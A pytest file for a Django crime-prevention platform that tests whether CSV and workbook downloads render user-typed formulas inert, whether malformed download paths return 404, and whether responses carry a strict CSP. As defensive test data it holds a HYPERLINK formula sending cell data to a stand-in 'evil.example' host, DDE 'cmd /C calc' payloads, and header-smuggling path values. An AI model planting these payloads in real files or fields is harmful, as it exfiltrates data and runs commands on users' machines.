"""Every download, fed a formula typed by a user, hands it back inert: ``'…`` in a CSV,
a text cell (quotePrefix) in a workbook. Plus the download URLs that took any suffix,
and the Content-Security-Policy header."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from sinasec.analytics.targeting.index import IndicatorChoice, TargetingParams
from sinasec.barrios.models import Barrio, BarrioStatus
from sinasec.barrios.targeting.services import run_and_store_targeting
from sinasec.barrios.tests.test_targeting_grid import YEAR, cluster_points, square, write_store
from sinasec.committees.models import Committee
from sinasec.observatory.services import load_seed_demo
from sinasec.plans.models import Activity
from sinasec.plans.services import load_national_plan_2010
from sinasec.territories.models import Territory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "object-src 'none'; base-uri 'self'; frame-ancestors 'none'; form-action 'self'"
)


def csv_cells(content: bytes, delimiter: str = ",") -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_inert_csv(content: bytes, payload: str, delimiter: str = ",") -> None:
    cells = csv_cells(content, delimiter)
    assert "'" + payload in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def assert_inert_xlsx(content: bytes, payload: str) -> None:
    cells = xlsx_cells(content)
    hits = [c for c in cells if c.value == payload]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
    assert not [c for c in cells if c.data_type == "f"]


@pytest.fixture
def hostile_plan() -> Any:
    plan = load_national_plan_2010()
    Activity.objects.filter(strategy__plan=plan, strategy__number=2, number=7).update(
        description=FORMULA
    )
    return plan


def test_the_plan_evaluation_workbook_holds_a_typed_formula_as_text(
    client: Client, admin: User, hostile_plan: Any
) -> None:
    client.force_login(admin)
    response = client.get(f"/planes/{hostile_plan.pk}/evaluacion.xlsx")
    assert response.status_code == 200
    assert_inert_xlsx(response.content, FORMULA)


def test_the_plan_template_csv_and_xlsx_hold_a_typed_formula_inert(
    client: Client, admin: User, hostile_plan: Any
) -> None:
    client.force_login(admin)
    assert_inert_csv(client.get(f"/planes/{hostile_plan.pk}/plan.csv").content, FORMULA, ";")
    assert_inert_xlsx(client.get(f"/planes/{hostile_plan.pk}/plan.xlsx").content, FORMULA)
    assert client.get(f"/planes/{hostile_plan.pk}/plan.html").status_code == 404


def test_the_targeting_results_csv_neutralises_a_polygon_named_like_a_formula(
    client: Client, analyst: User, tmp_path: Path, settings: Any
) -> None:
    settings.INCIDENTS_DIR = tmp_path / "store"
    write_store(tmp_path, cluster_points())
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    features = [{"code": "Z1", "name": name, "population": None, "geometry": square(7, 7, 3)}]
    params = TargetingParams(
        year=YEAR, unit="polygons", polygons="z.geojson", indicators=(IndicatorChoice("total"),)
    )
    run = run_and_store_targeting(analyst, params, features)
    client.force_login(analyst)
    response = client.get(f"/barrios/focalizacion/{run.pk}/resultados.csv")
    assert_inert_csv(response.content, name)


def test_the_barrio_sector_matrix_csv_neutralises_a_barrio_named_like_a_formula(
    client: Client, admin: User
) -> None:
    Barrio.objects.create(
        name="+cmd|' /C calc'!A0", district_id="150122", cohort="2026", status=BarrioStatus.LAUNCHED
    )
    client.force_login(admin)
    assert_inert_csv(client.get("/barrios/articulacion/matriz.csv").content, "+cmd|' /C calc'!A0")


def test_the_compliance_csv_and_workbook_neutralise_a_committee_named_like_a_formula(
    client: Client,
) -> None:
    Committee.objects.filter(level="district", ubigeo="150122").update(name="-2+3+cmd|'/C calc'!A0")
    query = {"fecha": "2020-01-01"}
    csv_download = client.get("/comites/cumplimiento.csv", query)
    assert_inert_csv(csv_download.content, "-2+3+cmd|'/C calc'!A0")
    assert csv_download["Content-Disposition"].startswith(
        'attachment; filename="cumplimiento-2020-01-01.csv"'
    )
    xlsx_download = client.get("/comites/cumplimiento.xlsx", query)
    assert_inert_xlsx(xlsx_download.content, "-2+3+cmd|'/C calc'!A0")


def test_the_observatory_csv_neutralises_a_territory_named_like_a_formula(
    client: Client,
) -> None:
    load_seed_demo()
    Territory.objects.filter(ubigeo="15").update(name="=1+1")
    response = client.get("/observatorio/datos.csv", {"anio": "2005", "territorio": "15"})
    assert response.status_code == 200
    assert csv_cells(response.content)[8:12] == ["2005", "1", "15", "'=1+1"]


@pytest.mark.parametrize(
    "path",
    [
        '/observatorio/datos.x";filename=evil.html',
        "/observatorio/datos.x%22;filename=evil.html",
        "/observatorio/datos.csv%0d%0aX:1",
        "/observatorio/datos.html",
    ],
)
def test_an_unknown_observatory_download_format_is_a_404_not_a_file_name(
    client: Client, path: str
) -> None:
    response = client.get(path)
    assert response.status_code == 404
    assert "Content-Disposition" not in response and "X" not in response


def test_the_observatory_download_names_its_file_safely(client: Client) -> None:
    load_seed_demo()
    response = client.get("/observatorio/datos.parquet", {"anio": "2005"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="delitos_2005_')
    assert response["Content-Disposition"].count('"') == 2


@pytest.mark.parametrize("path", ["/", "/observatorio/", "/api/v1/territories", "/no-existe/"])
def test_every_response_carries_the_strict_content_security_policy(
    client: Client, path: str
) -> None:
    assert client.get(path)["Content-Security-Policy"] == CSP


def test_the_plan_csv_neutralised_on_export_imports_back_unchanged(
    client: Client, admin: User
) -> None:
    from sinasec.plans.services import import_plan
    from sinasec.plans.tests.template_support import snapshot

    plan = load_national_plan_2010()
    typed = ["- Patrullaje integrado", "+51 1 555 0101", "@vecinos_miraflores", FORMULA]
    activities = Activity.objects.filter(strategy__plan=plan).order_by("pk")[: len(typed)]
    for activity, description in zip(activities, typed, strict=True):
        Activity.objects.filter(pk=activity.pk).update(description=description)
    before = snapshot(plan)
    client.force_login(admin)
    exported = client.get(f"/planes/{plan.pk}/plan.csv").content
    assert_inert_csv(exported, "- Patrullaje integrado", ";")

    assert import_plan(admin, "plan.csv", exported) == plan
    assert snapshot(plan) == before  # every "'" an export added was taken off again
